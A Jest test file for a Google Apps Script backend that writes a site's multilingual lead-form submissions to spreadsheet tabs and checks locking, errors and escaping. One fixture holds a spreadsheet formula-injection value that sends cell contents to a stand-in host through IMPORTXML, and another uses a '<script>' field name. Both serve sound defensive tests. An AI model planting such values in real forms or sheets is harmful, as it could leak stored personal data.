/** @jest-environment node */
import { contentIn } from "@/content-model/content";
import { languages, type Language } from "@/content-model/languages";
import { eventOf, FakeGoogle } from "./fake-google";
import {
  sampleLeads,
  without,
  type Fields,
} from "@/components/lead-form/leads.fixture";

const { booking, consultation } = sampleLeads;
const receivedAt = "2026-11-21T12:30:00+05:30";
const trouble = "Your request could not be saved just now.";

let google: FakeGoogle;
let script: ReturnType<FakeGoogle["load"]>;

beforeEach(() => {
  google = new FakeGoogle();
  script = google.load({
    notify: "desk@example.in",
    phone: "+91 11 2345 6789",
  });
});

const post = (fields: Fields) => script.doPost(eventOf(fields));

const result = (fields: Fields) =>
  JSON.parse(post(fields).body) as { ok: boolean; error?: string };

/** The leads of a tab, up to the time of receipt. */
const rows = (tab = "Booking") =>
  (google.sheets?.[tab]?.rows ?? [])
    .slice(1)
    .map((cells) => cells.slice(0, tab === "Booking" ? 6 : 10));

describe("a request sent by the site", () => {
  test("is one row with the server's time in the tab of its form, and the answer says so", () => {
    expect(post(booking)).toEqual({ type: "json", body: '{"ok":true}' });
    post(consultation);

    const tabs = { Booking: booking, Consultation: consultation };
    for (const [tab, lead] of Object.entries(tabs)) {
      expect(google.sheets![tab]!.rows[0]).toEqual(
        expect.arrayContaining([...Object.keys(lead), "receivedAt"]),
      );
      expect(rows(tab)).toEqual([[...Object.values(lead), receivedAt]]);
    }
    expect(google.sheets!.Booking!.frozenRows).toBe(1);
    expect(google.locked).toBe(false);
  });

  test("reads as typed: Hindi, line breaks, a zero in front, and formulas that do not run", () => {
    const typed = {
      ...booking,
      parentName: '=IMPORTXML("http://example.com/?"&A1,"//a")',
      phoneNumber: "09876543210",
      serviceRequest: "मेरी बेटी 👨‍👩‍👧\nबोलती नहीं",
    };

    post(typed);

    expect(rows()).toEqual([[...Object.values(typed), receivedAt]]);
  });
});

test("two posts at once, below a full sheet, are one row for one request, two for two", () => {
  google.whileWaiting = () => post({ ...booking, parentName: "Ravi Roy" });
  post(booking);
  google.whileWaiting = () => post({ ...booking, parentName: "Meera" });
  post({ ...booking, parentName: "Meera" });

  const names = rows().map(([name]) => name);
  // More leads than a new tab of the fake has rows.
  expect(names).toEqual(["Ravi Roy", "Asha Sen", "Meera"]);
  expect(google.mails).toHaveLength(3);
});

describe("the parent is told the truth", () => {
  test("when the row cannot be written; the lock is free and a second try works", () => {
    post(consultation);
    const sheet = google.sheets!.Consultation!;
    const lead = { ...consultation, childName: "Rani" };
    sheet.isFailing = true;

    expect(result(lead)).toEqual({ ok: false, error: trouble });
    expect(google.locked).toBe(false);
    expect(google.mails).toHaveLength(1);
    expect(google.log.join()).not.toContain("Asha");

    sheet.isFailing = false;
    expect(result(lead)).toEqual({ ok: true });
    expect(rows("Consultation")).toHaveLength(2);
  });

  test("when the script belongs to no spreadsheet", () => {
    google.sheets = undefined;

    expect(result(booking)).toEqual({ ok: false, error: trouble });
    expect(google.log.join()).toContain("no spreadsheet");
  });

  test("when the lead is not one, is repeated in part, or is not what Google promises", () => {
    const unknown = { ...booking, card: "1" };
    const twice = { parentName: ["A", "B"], location: ["x"], timestamp: ["t"] };

    expect(result(unknown).error).toMatch(/"card"\.$/);
    expect(script.doPost({ parameters: twice }).body).toContain("twice");
    for (const event of [undefined, null, {}, { parameters: { location: 5 } }])
      expect(JSON.parse(script.doPost(event).body).ok).toBe(false);
    expect(google.sheets).toEqual({});
  });
});

describe("a browser that posted without scripts", () => {
  const native = without("timestamp", booking);

  const sectionIn = ({ code }: Language, body: string) =>
    body.split(`<section lang="${code}">`)[1]?.split("</section>")[0];

  test("shows the site's thanks in each language of the site, and the row has the server's time", () => {
    const answer = post({ ...native, timestamp: "" });

    expect(answer).toMatchObject({ type: "html", title: "Thank you | धन्यवाद" });
    for (const language of languages)
      expect(sectionIn(language, answer.body)).toContain(
        `<p>${contentIn(language).leadForm.success}</p>`,
      );
    expect(answer.body).toContain('href="tel:+911123456789"');
    expect(rows()[0]!.at(-2)).toBe("2026-11-21T07:00:00.000Z");
  });

  test("is told in each language what was wrong, with markup shown as text, and whom to call", () => {
    const answer = post({ ...native, "<script>": "" });

    expect(answer.title).toBe("Your request was not sent | आपका फ़ॉर्म नहीं गया");
    for (const language of languages)
      expect(sectionIn(language, answer.body)).toMatch(
        /<p>[^\n]*&lt;script&gt;[^\n]*[.।] [^\n]{50,}[.।]<\/p>\n<p>[^\n]*tel:/,
      );
    expect(answer.body).not.toContain("<script>");
    expect(rows()).toEqual([]);
  });

  test("gets a plain answer when no page can be made", () => {
    google.pagesWork = false;

    expect(post(native)).toEqual({ type: "json", body: '{"ok":true}' });
  });
});
